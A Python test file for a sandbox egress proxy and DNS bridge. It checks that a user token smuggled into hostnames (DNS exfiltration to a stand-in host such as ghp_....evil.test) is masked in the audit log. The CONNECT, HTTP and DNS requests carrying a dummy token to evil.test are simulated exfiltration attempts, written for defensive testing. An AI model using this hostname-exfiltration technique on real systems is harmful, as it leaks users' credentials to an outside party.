"""A server puts the user's token in the name it asks the sandbox to reach (DNS exfiltration:
``ghp_....evil.test``): a ``CONNECT`` or a plain-HTTP request the proxy refuses, a DNS lookup
the bridge refuses, or a request to a name an allowed ``*.domain`` covers. The sandbox refused
the first two, but recorded each name as asked in the host's audit log (which the gateway's
sinks mirror, kept for years), where the proxy masks a request's path and leaves out its query.

Before (2026-12-06): the token was in the audit log in clear, once per refused name and in the
record of each allowed connection.

Now the host named in a record of the proxy is masked by the DLP rules (``redact_text``), as a
path is. Ordinary names (the allowed API, a name refused) are recorded as they were."""

from __future__ import annotations

import json
import socket
import time
from pathlib import Path
from typing import Any

import pytest
from sandbox_proxy_kit import bridge_reported, egress_proxy, stand_in_resolver

from mcpward.sandbox.interface import NetworkRules

TOKEN = "ghp_" + "a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8"  # lowercase, as a name is read


def _ask(port: int, payload: bytes) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as client:
        client.sendall(payload)
        client.recv(100)


def _leaked(records: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [record for record in records if TOKEN[4:12] in json.dumps(record)]


def test_refused_names_are_recorded_masked(tmp_path: Path) -> None:
    with egress_proxy(tmp_path, NetworkRules(allow=("api.example.test",))) as (proxy, records):
        _ask(proxy.port, f"CONNECT {TOKEN}.evil.test:443 HTTP/1.1\r\n\r\n".encode())
        _ask(
            proxy.port,
            f"GET http://x.{TOKEN}.evil.test/ HTTP/1.1\r\nHost: x.{TOKEN}.evil.test\r\n\r\n".encode(),
        )
        _ask(proxy.port, b"CONNECT outside.test:443 HTTP/1.1\r\n\r\n")
    assert len(records) == 3, records
    assert _leaked(records) == [], _leaked(records)
    assert [record["host"] for record in records] == [
        "ghp_****.evil.test",
        "x.ghp_****.evil.test",
        "outside.test",
    ]


def test_an_allowed_name_is_recorded_masked(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as upstream:
        port = int(upstream.getsockname()[1])
        rules = NetworkRules(allow=("*.example.test:443",))
        resolve = {
            f"{TOKEN}.example.test:443": ("127.0.0.1", port),
            "api.example.test:443": ("127.0.0.1", port),
        }
        with egress_proxy(tmp_path, rules, resolve=resolve) as (proxy, records):
            for name in (TOKEN, "api"):
                with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as client:
                    client.sendall(f"CONNECT {name}.example.test:443 HTTP/1.1\r\n\r\n".encode())
                    assert client.recv(100).startswith(b"HTTP/1.1 200")
                    accepted, _ = upstream.accept()
                    accepted.close()
            for _ in range(50):  # the tunnels' records come when both ends have closed (bounded)
                if len(records) == 2:
                    break
                time.sleep(0.1)
    assert [(r["host"], r["decision"]) for r in records] == [
        ("ghp_****.example.test", "allow"),
        ("api.example.test", "allow"),
    ], records


def test_a_refused_dns_lookup_is_recorded_masked(tmp_path: Path) -> None:
    records = bridge_reported(tmp_path, [f"DNS {TOKEN}.evil.test", "DNS api.example.test"], "DNS")
    assert [r["host"] for r in records] == ["ghp_****.evil.test", "api.example.test"]


def test_a_refusal_that_quotes_the_name_is_recorded_masked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The name an allowed *.domain covers resolves to the host's loopback: refused, and the
    # refusal's reason quotes the name.
    stand_in_resolver(monkeypatch, lambda name: name.endswith(".example.test"), "127.0.0.1")
    with egress_proxy(tmp_path, NetworkRules(allow=("*.example.test",))) as (proxy, records):
        _ask(proxy.port, f"CONNECT {TOKEN}.example.test:443 HTTP/1.1\r\n\r\n".encode())
        _ask(proxy.port, b"CONNECT api.example.test:443 HTTP/1.1\r\n\r\n")
    assert len(records) == 2, records
    assert _leaked(records) == [], _leaked(records)
    assert "api.example.test resolves to 127.0.0.1" in records[1]["reason"], records
